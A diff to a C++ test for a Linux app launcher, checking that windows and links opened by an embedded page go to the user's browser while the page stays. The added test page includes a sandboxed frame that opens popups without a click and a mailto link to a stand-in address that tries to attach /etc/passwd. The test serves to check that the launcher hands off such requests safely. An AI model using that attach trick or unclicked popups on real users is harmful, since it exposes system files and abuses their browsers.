@@ -43,11 +43,15 @@ class LinuxLeavingApp : public linux_launcher_test {
 TEST_F(LinuxLeavingApp, WindowsAndLinksOutReachTheUsersBrowserAndThePageStays) {
   install_stand_in_browser();
   fs::path app = dir / "app";
-  // Green once the page has tried every way out it has, while it was shown.
+  // Green once the page has tried every way out it has, while it was shown;
+// a frame of another origin opens six windows without a click, none of
+// which leaves.
   write(app / "index.html", R"(<!doctype html>
 <style>html,body{margin:0;height:100%;background:#f00}a{display:block;height:100%}iframe{position:fixed;width:1px}
 #heard{position:fixed;left:0;top:0;width:8px;height:8px}</style>
 <iframe src="data:text/html,<script>location='https://example.test/in-frame'</script>"></iframe>
+<iframe sandbox="allow-scripts allow-popups" srcdoc="<script>for (let i = 0; i < 5; i++) window.open('https://example.test/frame' + i);
+window.open('mailto:victim@x.test?attach=/etc/passwd')</script>"></iframe>
 <a href="https://example.test/clicked" onclick="heard.style.background = '#00f'">out</a><div id=heard></div>
 <script>
 window.open("https://example.test/x");
